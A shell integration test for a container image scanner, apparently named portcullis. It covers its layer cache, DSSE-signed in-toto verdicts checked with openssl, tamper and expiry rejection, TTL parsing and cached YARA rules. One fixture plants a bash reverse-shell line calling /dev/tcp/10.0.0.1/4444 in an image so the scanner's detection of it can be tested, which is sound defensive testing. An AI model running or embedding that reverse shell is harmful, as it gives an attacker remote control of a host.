# Integration: the layer facts cache through the CLI (hits, a corrupt entry
# rescanned, an unsafe directory refused, stats/prune/clear) and signed
# verdicts (scan --sign-key, portcullis verify: a valid allow exits 0, a
# valid deny 3 unless --accept-deny, each binding and every forgery 1), and
# --verdict-ttl read alike by portcullis and portcullis-webhook. Verdicts
# are in-toto Statements v1 in DSSE: the statement's shape is checked with
# python3's json, the signature with openssl over a PAE built here from
# the DSSE spec (not portcullis' code); a verdict in the form signed before
# in-toto (made here with openssl) still verifies.
. "$PC_ROOT/tests/lib.sh"

build_fixture whiteout || exit 1
build_fixture bad || exit 1
C="$T/cache"
IMG="oci:$T/whiteout/oci:latest"

# the reader id `portcullis version` prints (the facts cache's keys carry
# it) is the digest of the library's sources, as the Makefile lists them
rid=$(cd "$PC_ROOT" && ls lib/*.c lib/*.h lib/*/*.c lib/*/*.h include/*.h | LC_ALL=C sort | xargs cat | sha256sum | cut -c1-16)
"$PC" version >"$T/version.txt" 2>&1
grep_in "version names the reader id of these sources" "^reader: $rid$" "$T/version.txt"
run "cold scan" 1 "$PC" scan --cache-dir "$C" --format json "$IMG"
cp "$T/out" "$T/cold.json"
jq_true "cold reads every layer" '.reports[0].stats.cached_layers == 0 and .reports[0].stats.layers == 3'
run "warm scan" 1 "$PC" scan --cache-dir "$C" --format json "$IMG"
jq_true "warm takes every layer from the cache" '.reports[0].stats.cached_layers == 3'
if [ "$(jq -c '.reports[0].findings' "$T/cold.json")" = "$(jq -c '.reports[0].findings' "$T/out")" ]; then
    pass "warm findings equal cold findings"
else
    fail "warm findings equal cold findings" "differ"
fi
run "policy change uses the cache" 0 "$PC" scan --cache-dir "$C" --policy baseline --format json "$IMG"
jq_true "baseline: cached, setuid now warns" '.reports[0].stats.cached_layers == 3 and ([.reports[0].findings[] | select(.check == "setuid-file") | .action == "warn"] | all)'

# damage every entry: each must be ignored and the layer read again
for f in "$C"/facts/*.facts; do printf 'garbage' | dd of="$f" bs=1 seek=300 conv=notrunc status=none; done
run "corrupt entries rescanned" 1 "$PC" scan --cache-dir "$C" --format json "$IMG"
jq_true "corrupt entries are misses" '.reports[0].stats.cached_layers == 0'
if [ "$(jq -c '.reports[0].findings' "$T/cold.json")" = "$(jq -c '.reports[0].findings' "$T/out")" ]; then
    pass "findings after corrupt cache equal cold findings"
else
    fail "findings after corrupt cache equal cold findings" "differ"
fi
for f in "$C"/facts/*.facts; do truncate -s 100 "$f"; done
run "truncated entries rescanned" 1 "$PC" scan --cache-dir "$C" --format json "$IMG"
jq_true "truncated entries are misses" '.reports[0].stats.cached_layers == 0'

mkdir -p "$T/open" && chmod 0777 "$T/open"
run "world-writable cache dir refused" 2 "$PC" scan --cache-dir "$T/open" "$IMG"
grep_in "refusal names the directory" 'writable by other users' "$T/err"
run "no-cache reads layers" 1 "$PC" scan --no-cache --format json "$IMG"
jq_true "no-cache: nothing cached" '.reports[0].stats.cached_layers == 0'

run "cache stats" 0 "$PC" cache stats --cache-dir "$C"
grep_in "stats counts entries" '3 layer entries' "$T/out"
run "cache prune to 1 byte" 0 "$PC" cache prune --cache-dir "$C" --cache-max-bytes 1
grep_in "prune evicts" '0 layer entries' "$T/out"
run "cache bad command" 2 "$PC" cache explode --cache-dir "$C"

# --- signed verdicts
openssl genpkey -algorithm ed25519 -out "$T/k.pem" 2>/dev/null && chmod 600 "$T/k.pem" &&
    openssl pkey -in "$T/k.pem" -pubout -out "$T/k.pub" 2>/dev/null
openssl genpkey -algorithm ed25519 -out "$T/other.pem" 2>/dev/null && openssl pkey -in "$T/other.pem" -pubout -out "$T/other.pub" 2>/dev/null
run "signed scan" 1 "$PC" scan --sign-key "$T/k.pem" --format json "oci:$T/bad/oci:latest"
cp "$T/out" "$T/signed.json"
jq_true "attestation present" '.reports[0].attestation.payloadType == "application/vnd.in-toto+json"'
jq '.reports[0].attestation' "$T/signed.json" >"$T/env.json"
MD=$(jq -r '.reports[0].manifest_digest' "$T/signed.json")
PD=$(jq -r '.reports[0].policy_digest' "$T/signed.json")
jq -r .payload "$T/env.json" | base64 -d >"$T/statement.json"
jq .predicate "$T/statement.json" >"$T/payload.json"
# the in-toto Statement v1 shape (https://github.com/in-toto/attestation spec/v1/statement.md)
if python3 - "$T/statement.json" "$MD" "$T/bad/oci" >"$T/shape.err" 2>&1 <<'PY'; then
import json, sys
st = json.load(open(sys.argv[1]))
md, repo = sys.argv[2], "oci:" + sys.argv[3]
assert list(st) == ["_type", "subject", "predicateType", "predicate"], list(st)
assert st["_type"] == "https://in-toto.io/Statement/v1", st["_type"]
assert st["predicateType"] == "https://portcullis.io/verdict/v1", st["predicateType"]
assert isinstance(st["subject"], list) and st["subject"], st["subject"]
for s in st["subject"]:
    assert set(s) == {"name", "digest"} and isinstance(s["digest"], dict), s
    for alg, hexd in s["digest"].items():
        assert alg == "sha256" and len(hexd) == 64 and int(hexd, 16) >= 0, s
assert st["subject"][0] == {"name": repo, "digest": {"sha256": md.split(":", 1)[1]}}, st["subject"]
p = st["predicate"]
assert p["manifest_digest"] == md and p["verdict"] == "deny" and "_type" not in p, p
PY
    pass "in-toto statement: _type, subject (repository without tag, manifest sha256), predicateType, predicate"
else
    fail "in-toto statement shape" "$(head -c 400 "$T/shape.err")"
fi
# DSSE v1 checked outside portcullis: PAE(type, body) = "DSSEv1 SP len(type) SP type SP len(body) SP body"
dsse_openssl_ok() { # ENVELOPE PUB
    jq -r .payload "$1" | base64 -d >"$T/d.body"
    ptype=$(jq -r .payloadType "$1")
    { printf 'DSSEv1 %s %s %s ' "${#ptype}" "$ptype" "$(wc -c <"$T/d.body")"; cat "$T/d.body"; } >"$T/d.pae"
    jq -r '.signatures[0].sig' "$1" | base64 -d >"$T/d.sig"
    openssl pkeyutl -verify -pubin -inkey "$2" -rawin -in "$T/d.pae" -sigfile "$T/d.sig" >/dev/null 2>&1
}
if dsse_openssl_ok "$T/env.json" "$T/k.pub"; then
    pass "DSSE: openssl verifies the signature over the spec's PAE"
else
    fail "DSSE: openssl verifies the signature over the spec's PAE" "openssl refused it"
fi
if dsse_openssl_ok "$T/env.json" "$T/other.pub"; then
    fail "DSSE: openssl refuses another key" "verified"
else
    pass "DSSE: openssl refuses another key"
fi
jq_true "payload binds verdict and digests" ".verdict == \"deny\" and .manifest_digest == \"$MD\" and .policy_digest == \"$PD\" and (.checks | length > 0)" "$T/payload.json"
# a valid DENY is not "may run": exit 3, never 0 (runtimes and TES servers read 0 as run)
run "verify a signed deny: not 0" 3 "$PC" verify --key "$T/k.pub" --image-digest "$MD" --policy-digest "$PD" "$T/env.json"
grep_in "signed deny: stdout says valid: deny" '^valid: deny$' "$T/out"
grep_in "signed deny: stderr says it must not run" 'must not run' "$T/err"
run "verify a signed deny with --accept-deny" 0 "$PC" verify --key "$T/k.pub" --image-digest "$MD" --policy-digest "$PD" --accept-deny "$T/env.json"
grep_in "--accept-deny: prints the deny" '^valid: deny$' "$T/out"
run "verify a signed deny from stdin" 3 sh -c "\"$PC\" verify --key \"$T/k.pub\" - <\"$T/env.json\""
run "verify from stdin, --accept-deny" 0 sh -c "\"$PC\" verify --key \"$T/k.pub\" --accept-deny - <\"$T/env.json\""
# an ALLOW: the clean image under baseline
run "signed allow scan" 0 "$PC" scan --cache-dir "$(fresh_cache)" --policy baseline --sign-key "$T/k.pem" --format json -o "$T/allow.json" "$IMG"
jq '.reports[0].attestation' "$T/allow.json" >"$T/allow-env.json"
AMD=$(jq -r '.reports[0].manifest_digest' "$T/allow.json")
APD=$(jq -r '.reports[0].policy_digest' "$T/allow.json")
ADG=$(jq -r '.reports[0].digest' "$T/allow.json")
run "verify a signed allow" 0 "$PC" verify --key "$T/k.pub" --image-digest "$AMD" --policy-digest "$APD" "$T/allow-env.json"
grep_in "signed allow: stdout says valid: allow" '^valid: allow$' "$T/out"
run "verify a signed allow by the resolved digest" 0 "$PC" verify --key "$T/k.pub" --image-digest "$ADG" "$T/allow-env.json"
# the bindings: each one alone turns a valid allow into invalid (exit 1)
ZERO=sha256:0000000000000000000000000000000000000000000000000000000000000000
run "allow, other image digest" 1 "$PC" verify --key "$T/k.pub" --image-digest "$ZERO" --policy-digest "$APD" "$T/allow-env.json"
grep_in "allow, other image digest: reason" "digest $ZERO does not match" "$T/err"
run "allow, other policy digest" 1 "$PC" verify --key "$T/k.pub" --image-digest "$AMD" --policy-digest "$ZERO" "$T/allow-env.json"
grep_in "allow, other policy digest: reason" "policy digest $ZERO does not match" "$T/err"
run "allow, the deny's policy digest (restricted, not baseline)" 1 "$PC" verify --key "$T/k.pub" --policy-digest "$PD" "$T/allow-env.json"
run "deny, other policy digest, --accept-deny" 1 "$PC" verify --key "$T/k.pub" --policy-digest "$ZERO" --accept-deny "$T/env.json"
jq --arg p "$(sed 's/"deny"/"allow"/' "$T/statement.json" | base64 -w0)" '.payload = $p' "$T/env.json" >"$T/flipped.json"
run "flipped verdict" 1 "$PC" verify --key "$T/k.pub" "$T/flipped.json"
grep_in "flipped: signature mismatch" 'signature mismatch' "$T/err"
# a tampered subject: the statement made to name another image
jq --arg p "$(jq -c --arg z "${ZERO#sha256:}" '.subject[0].digest.sha256 = $z' "$T/statement.json" | base64 -w0)" '.payload = $p' "$T/env.json" >"$T/resubject.json"
run "tampered subject" 1 "$PC" verify --key "$T/k.pub" --image-digest "$ZERO" --accept-deny "$T/resubject.json"
grep_in "tampered subject: signature mismatch" 'signature mismatch' "$T/err"
# the statement's subject binds: another image's digest fails, with the reason
run "in-toto: other image digest" 1 "$PC" verify --key "$T/k.pub" --image-digest "$ZERO" --accept-deny "$T/env.json"
grep_in "in-toto: other image digest: reason" "digest $ZERO does not match $MD: the statement is about another image" "$T/err"
# the form signed before in-toto still verifies (until 1.0), every binding kept
jq -c '{_type: "https://portcullis.io/verdict/v1"} + .' "$T/payload.json" | tr -d '\n' >"$T/legacy.body"
LT=application/vnd.portcullis.verdict.v1+json
{ printf 'DSSEv1 %s %s %s ' "${#LT}" "$LT" "$(wc -c <"$T/legacy.body")"; cat "$T/legacy.body"; } >"$T/legacy.pae"
openssl pkeyutl -sign -inkey "$T/k.pem" -rawin -in "$T/legacy.pae" -out "$T/legacy.sig" 2>/dev/null
jq -n --arg t "$LT" --arg p "$(base64 -w0 <"$T/legacy.body")" --arg s "$(base64 -w0 <"$T/legacy.sig")" \
    '{payloadType: $t, payload: $p, signatures: [{keyid: "", sig: $s}]}' >"$T/legacy.json"
run "legacy verdict verifies" 3 "$PC" verify --key "$T/k.pub" --image-digest "$MD" --policy-digest "$PD" "$T/legacy.json"
grep_in "legacy verdict: valid: deny" '^valid: deny$' "$T/out"
run "legacy verdict, other digest" 1 "$PC" verify --key "$T/k.pub" --image-digest "$ZERO" --accept-deny "$T/legacy.json"
run "legacy verdict, other policy digest" 1 "$PC" verify --key "$T/k.pub" --policy-digest "$ZERO" --accept-deny "$T/legacy.json"
jq --arg p "$(sed 's/"deny"/"allow"/' "$T/legacy.body" | base64 -w0)" '.payload = $p' "$T/legacy.json" >"$T/legacy-flipped.json"
run "legacy verdict, flipped" 1 "$PC" verify --key "$T/k.pub" "$T/legacy-flipped.json"
grep_in "legacy flipped: signature mismatch" 'signature mismatch' "$T/err"
run "other digest" 1 "$PC" verify --key "$T/k.pub" --image-digest sha256:0000000000000000000000000000000000000000000000000000000000000000 --accept-deny "$T/env.json"
grep_in "other digest: reason" 'does not match' "$T/err"
run "other key" 1 "$PC" verify --key "$T/other.pub" --accept-deny "$T/env.json"
run "other key, allow" 1 "$PC" verify --key "$T/other.pub" "$T/allow-env.json"
head -c 100 "$T/env.json" >"$T/trunc.json"
run "truncated envelope" 1 "$PC" verify --key "$T/k.pub" --accept-deny "$T/trunc.json"
# the run binding: a verdict judged for one run is not one for another
run "signed allow scan, --user 10001" 0 "$PC" scan --cache-dir "$(fresh_cache)" --policy baseline --sign-key "$T/k.pem" --user 10001:10001 --format json -o "$T/run.json" "$IMG"
jq '.reports[0].attestation' "$T/run.json" >"$T/run-env.json"
RK=$(jq -r '.reports[0].run_key' "$T/run.json")
jq -r .payload "$T/run-env.json" | base64 -d | jq .predicate >"$T/run-payload.json"
jq_true "run verdict: the payload's run_key is the report's" ".run_key == \"$RK\" and (.run_key | test(\"^sha256:[0-9a-f]{64}\$\"))" "$T/run-payload.json"
run "run verdict verifies with its --run-key" 0 "$PC" verify --key "$T/k.pub" --run-key "$RK" "$T/run-env.json"
run "run verdict does not pass for no run context" 1 "$PC" verify --key "$T/k.pub" "$T/run-env.json"
grep_in "run verdict, no run context: reason" 'run key .* does not match' "$T/err"
run "no-run verdict does not pass for the run" 1 "$PC" verify --key "$T/k.pub" --run-key "$RK" "$T/allow-env.json"
run "--any-run skips the binding" 0 "$PC" verify --key "$T/k.pub" --any-run "$T/run-env.json"
run "signed allow scan, --user 10001 again" 0 "$PC" scan --cache-dir "$(fresh_cache)" --policy baseline --sign-key "$T/k.pem" --user 10001:10001 --format json -o "$T/run2.json" "$IMG"
jq_true "the same run, the same run_key" ".reports[0].run_key == \"$RK\"" "$T/run2.json"
run "another run" 0 "$PC" scan --cache-dir "$(fresh_cache)" --policy baseline --user 10002 --format json -o "$T/run3.json" "$IMG"
jq_true "another run, another run_key" ".reports[0].run_key != \"$RK\"" "$T/run3.json"
run "expired" 1 "$PC" scan --sign-key "$T/k.pem" --verdict-ttl 1s --format json -o "$T/short.json" "oci:$T/bad/oci:latest"
jq '.reports[0].attestation' "$T/short.json" >"$T/short-env.json"
# wait for the expiry itself: until the clock is past the payload's expires_at (10 s at most)
EXPIRES=$(jq -r '.payload | @base64d | fromjson | .predicate.expires_at | fromdateiso8601' "$T/short-env.json" 2>/dev/null)
past_expiry() { [ "$(date +%s)" -gt "${EXPIRES:-0}" ]; }
wait_until 10 past_expiry || fail "verdict expired" "expires_at $EXPIRES is not within 10 s"
run "expired verdict refused" 1 "$PC" verify --key "$T/k.pub" --accept-deny "$T/short-env.json"
grep_in "expired: reason" 'expired at' "$T/err"
# --verdict-ttl: one grammar in both tools (README "Durations and sizes")
run "signed scan, --verdict-ttl 1h30m" 1 "$PC" scan --sign-key "$T/k.pem" --verdict-ttl 1h30m --format json -o "$T/ttl.json" "oci:$T/bad/oci:latest"
jq -r '.reports[0].attestation.payload' "$T/ttl.json" | base64 -d | jq .predicate >"$T/ttl-payload.json"
jq_true "--verdict-ttl 1h30m: valid 5400s" '((.expires_at | fromdateiso8601) - (.issued_at | fromdateiso8601)) == 5400' "$T/ttl-payload.json"
WH="$PC_BUILD/portcullis-webhook"
# a value is refused when the tool names it; anything else (here: no image,
# no --tls-cert) comes after the flags were accepted
for v in 7d 1h30m 2d12h 3600 90s 1500ms 366d 8784h no:0 no:999ms no:367d no:1.5h no:10x no:-1s no:1h30 no:; do
    want=accepted
    case $v in no:*) v=${v#no:} want=refused ;; esac
    "$PC" scan --verdict-ttl "$v" >/dev/null 2>"$T/e1"
    "$WH" --verdict-ttl "$v" >/dev/null 2>"$T/e2"
    a=accepted b=accepted
    grep -q "verdict-ttl \"$v\": expected" "$T/e1" && a=refused
    grep -q "verdict-ttl \"$v\": expected" "$T/e2" && b=refused
    if [ "$a" = "$want" ] && [ "$b" = "$want" ]; then
        pass "--verdict-ttl \"$v\" $want by portcullis and portcullis-webhook"
    else
        fail "--verdict-ttl \"$v\"" "portcullis: $a, portcullis-webhook: $b, expected $want"
    fi
done
chmod 644 "$T/k.pem"
run "world-readable key refused" 2 "$PC" scan --sign-key "$T/k.pem" "oci:$T/bad/oci:latest"
grep_in "key refusal reason" 'accessible by other users' "$T/err"
run "verify usage" 2 "$PC" verify "$T/env.json"
run "verify: unusable key" 2 "$PC" verify --key "$T/nonexistent.pub" "$T/allow-env.json"

# --- compiled rules are cached beside the facts and checked before use
jq -n '{tag: "latest", images: [{config: {User: "1000", Entrypoint: ["/app/run"]},
  layers: [{entries: [{path: "app/run", type: "file", mode: "0755",
    content: "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"}]}]}]}' >"$T/shell.json"
"$FB" "$T/shell.json" "$T/shell" >/dev/null 2>&1 || fail "build shell" "fixture-builder failed"
R="$T/rcache"
tool() { jq_true "$1" '[.reports[0].findings[] | select(.check == "suspicious-tool" and .path == "/app/run")] | length >= 1'; }
# inspect compiles no rules: the facts it caches must never stand in for a scan's
I="$T/icache"
run "inspect fills a cache" 0 "$PC" inspect --cache-dir "$I" "oci:$T/shell/oci:latest"
[ -z "$(ls "$I"/rules/*.yarc 2>/dev/null)" ] && pass "inspect compiled no rules" || fail "inspect compiled no rules" "$(ls -la "$I/rules")"
run "scan after inspect, same cache" 1 "$PC" scan --cache-dir "$I" --format json "oci:$T/shell/oci:latest"
jq_true "the scan read the layer again (inspect's facts are keyed apart)" '.reports[0].stats.cached_layers == 0'
tool "reverse shell found after inspect filled the cache"
run "rules compiled and stored" 1 "$PC" scan --cache-dir "$R" --no-cache --format json "oci:$T/shell/oci:latest"
run "rules compiled and stored (cache on)" 1 "$PC" scan --cache-dir "$R" --format json "oci:$T/shell/oci:latest"
tool "reverse shell found with freshly compiled rules"
[ "$(ls "$R"/rules/*.yarc 2>/dev/null | wc -l)" = 1 ] && pass "one compiled rules entry" || fail "one compiled rules entry" "$(ls -la "$R/rules")"
# named by the rules digest, libyara's version and the reader id
rd=$(jq -r '.reports[0].rules_digest' "$T/out")
yv=$(sed -n 's/^libraries: yara \([^,]*\),.*/\1/p' "$T/version.txt")
want=$(printf 'rules;%s;%s;%s' "$rd" "$yv" "$rid" | sha256sum | cut -c1-64)
[ -f "$R/rules/$want.yarc" ] && pass "the compiled rules entry is keyed by the reader id" ||
    fail "the compiled rules entry is keyed by the reader id" "no $want.yarc (rules $rd, yara $yv, reader $rid): $(ls "$R/rules")"
rm -rf "$R/facts"
run "rules loaded from the cache" 1 "$PC" scan --cache-dir "$R" --format json "oci:$T/shell/oci:latest"
tool "reverse shell found with cached rules"
for f in "$R"/rules/*.yarc; do printf 'XXXXXXXX' | dd of="$f" bs=1 seek=400 conv=notrunc status=none; done
rm -rf "$R/facts"
run "corrupt compiled rules are recompiled" 1 "$PC" scan --cache-dir "$R" --format json "oci:$T/shell/oci:latest"
tool "reverse shell found after a corrupt rules entry"
